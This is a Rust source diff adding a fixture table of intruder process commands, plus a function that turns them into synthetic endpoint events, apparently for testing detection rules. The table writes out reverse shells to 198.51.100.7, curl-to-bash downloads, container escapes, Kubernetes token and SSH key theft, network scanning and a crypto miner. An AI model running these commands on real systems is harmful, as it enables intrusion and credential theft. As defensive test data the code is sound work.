@@ -58,6 +58,26 @@ const WORDS: [&str; 16] = [
     "memfd",
 ];
 
+/// What intruders run, with the program that starts it.
+pub(crate) const INTRUSIONS: [(&str, &[&str]); 16] = [
+    ("nginx", &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1"]),
+    ("bash", &["nc", "198.51.100.7", "443", "-e", "/bin/sh"]),
+    ("sh", &["socat", "TCP:198.51.100.7:443", "EXEC:'bash -li',pty,stderr"]),
+    ("java", &["sh", "-c", "curl -s http://198.51.100.7/x.sh | bash"]),
+    ("sh", &["curl", "-s", "-o", "/tmp/x", "http://198.51.100.7/x"]),
+    ("bash", &["chmod", "777", "/tmp/x"]),
+    ("bash", &["base64", "-d", "/tmp/payload.b64"]),
+    ("node", &["sh", "-c", "echo aWQ= | base64 -d | sh"]),
+    ("bash", &["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "bash"]),
+    ("bash", &["kubectl", "get", "secrets", "--all-namespaces"]),
+    ("sh", &["cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]),
+    ("bash", &["find", "/", "-name", "id_rsa"]),
+    ("bash", &["nmap", "-sS", "10.0.0.0/24"]),
+    ("bash", &["docker", "-H", "unix:///var/run/docker.sock", "ps"]),
+    ("bash", &["xmrig", "--url", "stratum+tcp://pool:3333"]),
+    ("bash", &["unshare", "-U", "-r", "-m", "sh"]),
+];
+
 /// Numbers that look random and are the same at every run.
 pub(crate) struct Numbers(u64);
 
@@ -169,7 +189,7 @@ pub(crate) fn rule(number: usize) -> String {
     };
     format!(
         "[rule]\nrule_id = \"{own}\"\nname = \"{own}\"\ndescription = \"measured\"\nseverity = \"low\"\nrisk_score = 1\n\
-         max_signals = 1000000000\ntype = \"{rule_type}\"\n\
+         type = \"{rule_type}\"\n\
          index = [\"logs-endpoint.events.process*\"]\nquery = '''\n{query}\n'''\n{tail}"
     )
 }
@@ -207,6 +227,17 @@ pub(crate) fn event(number: usize) -> Map<String, Value> {
             _ => format!("item-{}", numbers.below(10_000)),
         });
     }
+    document(number, parent, name, &args)
+}
+
+/// The same of an intruder's program.
+pub(crate) fn intrusion(number: usize) -> Map<String, Value> {
+    let (parent, args) = INTRUSIONS[number / 3 % INTRUSIONS.len()];
+    let args: Vec<String> = args.iter().map(|argument| (*argument).to_owned()).collect();
+    document(number, parent, &args[0], &args)
+}
+
+fn document(number: usize, parent: &str, name: &str, args: &[String]) -> Map<String, Value> {
     let (action, kind) = [("fork", "start"), ("exec", "start"), ("end", "end")][number % 3];
     let pid = 1_000 + number / 3 % 30_000;
     let container = (!(number / 3).is_multiple_of(4)).then(|| format!("{:064x}", number / 3 % 40));
